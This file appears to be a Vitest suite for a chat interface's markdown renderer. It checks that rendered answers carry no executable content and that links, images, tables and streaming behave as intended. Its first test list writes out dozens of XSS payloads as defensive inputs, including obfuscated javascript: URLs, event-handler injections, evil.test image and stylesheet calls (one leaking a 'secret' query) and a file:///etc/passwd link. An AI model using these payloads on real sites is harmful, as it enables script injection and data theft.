import { describe, expect, test, vi } from 'vitest';
import { cite, html, mountMarkdown, web } from './fixtures';

/** Elements an answer may become, and the attributes each may have. */
const ALLOWED: Record<string, readonly string[]> = {
  a: ['aria-describedby', 'aria-label', 'class', 'href', 'rel', 'target', 'title'],
  button: ['aria-label', 'aria-live', 'class', 'type'],
  h6: ['aria-level', 'class'],
  img: ['alt', 'decoding', 'loading', 'referrerpolicy', 'src', 'title'],
  input: ['checked', 'disabled', 'type'],
  ol: ['start'],
  pre: ['aria-label', 'role', 'tabindex'],
  div: ['aria-label', 'class', 'role', 'tabindex'],
  th: ['class', 'scope'],
};
const PLAIN = 'p span h3 h4 h5 ul li strong em del code br hr blockquote table thead tbody tr td'.split(' ');

/** What `root` holds that no answer may make. */
function forbidden(root: Element): string[] {
  const found: string[] = [];
  for (const element of root.querySelectorAll('*')) {
    const name = element.localName;
    const attributes = ALLOWED[name] ?? (PLAIN.includes(name) ? ['class'] : null);
    if (attributes === null) found.push(`<${name}>`);
    for (const attribute of element.attributes) {
      if (attributes?.includes(attribute.name) === false) found.push(`${name} ${attribute.name}`);
    }
    const href = element.getAttribute('href');
    if (href !== null && !/^(?:https?:\/\/|mailto:|tel:|chatkit-link:\/\/)/.test(href))
      found.push(`href ${href}`);
    const src = element.getAttribute('src');
    if (src !== null && !/^(?:https:\/\/images\.test\/|data:image\/png)/.test(src)) found.push(`src ${src}`);
  }
  return found;
}

describe('nothing an answer says can run', () => {
  test.each([
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.test></ScRiPt>',
    'a <script>alert(1)</script> b',
    '<img src=x onerror=alert(1)>',
    '<img src="x" onerror="alert(1)"/> text',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<style>*{background:url(//evil.test)}</style>',
    '<link rel=stylesheet href=//evil.test>',
    '<base href=//evil.test>',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<form action=javascript:alert(1)><button>x</button></form>',
    '<details open ontoggle=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p id=x onclick=alert(1)>x</p>',
    '<template><script>alert(1)</script></template>',
    '<br onclick=alert(1)>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<?xml version="1.0"?><script>alert(1)</script>',
    '[a](javascript:alert(1))',
    '[a](JaVaScRiPt:alert(1))',
    '[a](<javascript:alert(1)>)',
    '[a](java\tscript:alert(1))',
    '[a](<java\nscript:alert(1)>)',
    '[a]( javascript:alert(1))',
    '[a](\u0001javascript:alert(1))',
    '[a](&#106;avascript:alert(1))',
    '[a](&#x6A;avascript:alert(1))',
    '[a](javascript&colon;alert(1))',
    '[a](javascript&#58;alert(1))',
    '[a](java&Tab;script:alert(1))',
    '[a](vbscript:msgbox(1))',
    '[a](data:text/html;base64,PHNjcmlwdD4=)',
    '[a](blob:https://a.test/x)',
    '[a](file:///etc/passwd)',
    '[a](chatkit-link:javascript:alert(1))',
    '[a](https://a.test "onmouseover=alert(1)")',
    '[a](https://a.test/"onmouseover="alert(1))',
    '[a]\n\n[a]: javascript:alert(1)',
    '[a][b]\n\n[b]: <data:text/html,x>',
    '<javascript:alert(1)>',
    '<vbscript:x>',
    '<data:text/html,x>',
    '![a](javascript:alert(1))',
    '![a](data:image/svg+xml;base64,PHN2Zz4=)',
    '![a](data:text/html,x)',
    '![a" onerror="alert(1)](https://images.test/x)',
    '![a](https://images.test/x"onerror="alert(1))',
    '![a](https://evil.test/?q=secret)',
    '![a](//evil.test/x)',
    '[![a](javascript:alert(1))](javascript:alert(2))',
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    '```js onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```',
    '`<img src=x onerror=alert(1)>`',
    '| <img src=x onerror=alert(1)> |\n|---|\n| [a](javascript:alert(1)) |',
    '# <svg onload=alert(1)>',
    '> <script>alert(1)</script>',
    '- <script>alert(1)</script>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;img src=x onerror=alert(1)&#62;',
    '**<b onmouseover=alert(1)>x</b>**',
    '<x-element onclick=alert(1)></x-element>',
  ])('%j', (text) => {
    for (const streaming of [true, false]) {
      const { root, show } = mountMarkdown({ streaming: true });
      if (streaming)
        for (let end = 1; end < text.length; end++) show({ text: text.slice(0, end), streaming });
      show({ text, streaming });
      expect(forbidden(root)).toEqual([]);
      root.remove();
    }
  });

  test('the check sees what it looks for', () => {
    const root = document.createElement('div');
    root.innerHTML =
      '<script></script><p onclick="x">a</p><a href="javascript:x">b</a><img src="https://evil.test/">';
    expect(forbidden(root)).toHaveLength(4);
  });

  test('markers hold what their sources say as text only', () => {
    const source = {
      type: 'url',
      title: '<img src=x onerror=alert(1)>',
      url: 'javascript:alert(1)',
    } as const;
    const { root } = mountMarkdown({ text: 'abc', annotations: [cite(source, 1)] });
    expect(forbidden(root)).toEqual([]);
    root.remove();
  });
});

describe('links', () => {
  test('open in a new tab, without a way back', () => {
    expect(html({ text: '[a](https://a.test/?x=1&amp;y=2 "T")' })).toContain(
      '<a aria-describedby="ck-new-tab" href="https://a.test/?x=1&amp;y=2" rel="noopener noreferrer" target="_blank" title="T">a</a>',
    );
  });

  test('to relative addresses go to the API, those to nowhere good are text', () => {
    expect(html({ text: '[a](docs/x)' })).toContain('href="https://api.test/chat/docs/x"');
    expect(html({ text: '[a](javascript:x)' })).toBe(
      '<div class="ck-md"><p><span class="ck-inert">a</span></p></div>',
    );
  });

  test('of the chat reach the page and lead nowhere', () => {
    const onDeeplink = vi.fn();
    const { root } = mountMarkdown({ text: '[Doc](chatkit-link://document?document_id=x%20y)', onDeeplink });
    const link = root.querySelector('a');
    const click = new MouseEvent('click', { bubbles: true, cancelable: true });
    link?.dispatchEvent(click);
    expect(onDeeplink).toHaveBeenCalledExactlyOnceWith('document', { document_id: 'x y' });
    expect(click.defaultPrevented).toBe(true);
    expect(link?.hasAttribute('target')).toBe(false);
    root.remove();
  });
});

describe('images', () => {
  test('of allowed hosts are shown, lazily and without telling where from', () => {
    expect(html({ text: '![map](https://images.test/m.png)' })).toContain(
      '<img alt="map" decoding="async" loading="lazy" referrerpolicy="no-referrer" src="https://images.test/m.png">',
    );
  });

  test('of others are a link with the text', () => {
    expect(html({ text: '![map](https://other.test/m.png)' })).toContain(
      '<a aria-describedby="ck-new-tab" class="ck-image" href="https://other.test/m.png" rel="noopener noreferrer" target="_blank">map</a>',
    );
    expect(html({ text: '[![map](https://other.test/m.png)](https://a.test)' })).not.toMatch(
      /<a[^>]*>[^/]*<a/,
    );
  });

  test('follow a change of what is allowed, also in finished blocks', () => {
    const text = '![map](https://other.test/m.png)\n\nmore\n\nend';
    const { root, show } = mountMarkdown({ text, streaming: true });
    expect(root.querySelector('img')).toBeNull();
    show({ text, streaming: true, isImageAllowed: () => true });
    expect(root.querySelector('img')).not.toBeNull();
    root.remove();
  });
});

describe('blocks', () => {
  test('headings look as they were written, and stand below that of the message', () => {
    expect(html({ text: '# a\n\n## b\n\n##### c' })).toBe(
      '<div class="ck-md"><h4 class="ck-h1">a</h4><h5 class="ck-h2">b</h5><h6 class="ck-h5">c</h6></div>',
    );
    expect(html({ text: '# a', heading: 3 })).toBe('<div class="ck-md"><h3 class="ck-h1">a</h3></div>');
  });

  test('the checkbox of a task is named by what it says, and is not to be changed', () => {
    const { root } = mountMarkdown({ text: '- [x] *Paid* in full\n- [ ] Confirmed\n\n  by post' });
    const boxes = [...root.querySelectorAll('input')].map((box) => [
      box.ariaLabel ?? box.getAttribute('aria-label'),
      box.checked,
      box.disabled,
    ]);
    expect(boxes).toEqual([
      ['Paid in full', true, true],
      [expect.stringMatching(/^Confirmed/), false, true],
    ]);
    root.remove();
  });

  test('a table is a named region the keyboard can scroll', () => {
    const { root } = mountMarkdown({ text: '| **a** | b |\n|---|--:|\n| 1 | 2 |' });
    const region = root.querySelector('[role=region]');
    expect(region?.getAttribute('aria-label')).toBe('a, b');
    expect(region?.getAttribute('tabindex')).toBe('0');
    expect([...root.querySelectorAll('td')].map((td) => td.className)).toEqual(['', 'ck-right']);
    root.remove();
  });

  test('a code block is there from its fence on, and is copied by its button', async () => {
    const writeText = vi.fn(() => Promise.resolve());
    vi.stubGlobal('navigator', { clipboard: { writeText } });
    const { root, show } = mountMarkdown({ text: '```py', streaming: true });
    expect(root.querySelector('pre')).not.toBeNull();
    show({ text: '```py\nx = 1 < 2\n```', streaming: false });
    expect(root.querySelector('.ck-code-language')?.textContent).toBe('py');
    root.querySelector('button')?.click();
    expect(writeText).toHaveBeenCalledWith('x = 1 < 2');
    await expect.poll(() => root.querySelector('button')?.textContent).toBe('Copied');
    vi.unstubAllGlobals();
    root.remove();
  });

  test('line breaks, tasks and character references', () => {
    expect(html({ text: 'a\nb &amp; &eacute; &#8212; &nosuch;' })).toBe(
      '<div class="ck-md"><p>a<br>b &amp; é — &amp;nosuch;</p></div>',
    );
    const { root } = mountMarkdown({ text: '- [x] done\n- [ ] open' });
    expect([...root.querySelectorAll('input')].map(({ checked, disabled }) => [checked, disabled])).toEqual([
      [true, true],
      [false, true],
    ]);
    root.remove();
  });

  test('rarer references are characters as soon as their names are known', async () => {
    const { root } = mountMarkdown({
      text: '&Alpha; is no &alpha; &amp;beta; [&sum;](https://a.test "&Ouml;")',
    });
    await expect.poll(() => root.textContent).toBe('&Alpha; is no α &beta; ∑');
    expect(root.querySelector('a')?.title).toBe('Ö');
    root.remove();
  });

  test('raw HTML is text, comments are nothing, and <br> breaks a line', () => {
    expect(html({ text: 'a <b>x</b><!-- no --> c<br>d' })).toBe(
      '<div class="ck-md"><p>a &lt;b&gt;x&lt;/b&gt; c<br>d</p></div>',
    );
  });
});

describe('an answer that grows', () => {
  test('keeps the elements of finished blocks, also when a marker arrives elsewhere', () => {
    const text = 'First.\n\nSecond.\n\nThird';
    const { root, show } = mountMarkdown({ text: text + '\n', streaming: true });
    const [first, second] = root.querySelectorAll('p');
    const changes = new MutationObserver(() => undefined);
    if (first)
      changes.observe(first, { childList: true, characterData: true, subtree: true, attributes: true });
    show({ text: `${text}\n\nFourth`, annotations: [cite(web, 14)], streaming: true });
    show({ text: `${text}\n\nFourth.`, annotations: [cite(web, 14)], streaming: false });
    const after = root.querySelectorAll('p');
    expect(after[0]).toBe(first);
    expect(after[1]).toBe(second);
    expect(after[1]?.textContent).toBe('Second1.');
    expect(changes.takeRecords()).toEqual([]);
    root.remove();
  });
});
